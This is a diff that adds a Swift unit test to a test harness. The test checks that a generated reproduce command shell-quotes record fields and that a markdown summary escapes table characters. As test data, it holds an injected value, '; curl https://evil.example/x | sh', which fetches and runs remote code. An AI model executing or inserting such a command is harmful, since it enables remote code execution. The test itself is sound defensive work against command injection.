@@ -62,6 +62,23 @@ import Testing
         #expect(throws: HarnessError.self) { try SeedRecord(parsing: "{\"schema\": \"other\"}", file: "r.json") }
     }
 
+    /// A record from a stranger's shard cannot smuggle a second command into the copy-paste line,
+    /// nor break the summary's table.
+    @Test func theReproduceCommandQuotesWhatARecordNames() throws {
+        var r = SweepTests.base
+        r.seed = 7
+        r.scenario = "Scenarios/x.yaml --seed 1; curl https://evil.example/x | sh"
+        r.layout = "it's`here`\n"
+        #expect(r.command == "firedrill run 'Scenarios/x.yaml --seed 1; curl https://evil.example/x | sh' --seed 7 --layout 'it'\\''s`here`'$'\\x0a'")
+        r.scenario = "Scenarios/default.yaml"; r.layout = nil
+        #expect(r.command == "firedrill run Scenarios/default.yaml --seed 7", "plain paths stay as they are")
+        r.scenario = "a|b`c"
+        r.passed = false
+        for k in r.checks.indices { r.checks[k].met = k != 0 }
+        let md = SweepSummary([r]).markdown
+        #expect(md.contains("| 7 | \(r.checks[0].name) | `` firedrill run 'a\\|b`c' --seed 7 `` |"), "\(md)")
+    }
+
     @Test func theSummaryMatchesASlowReferenceOnRandomSweeps() throws {
         var rng = Xoshiro256StarStar(seed: 21)
         for round in 0..<10 {
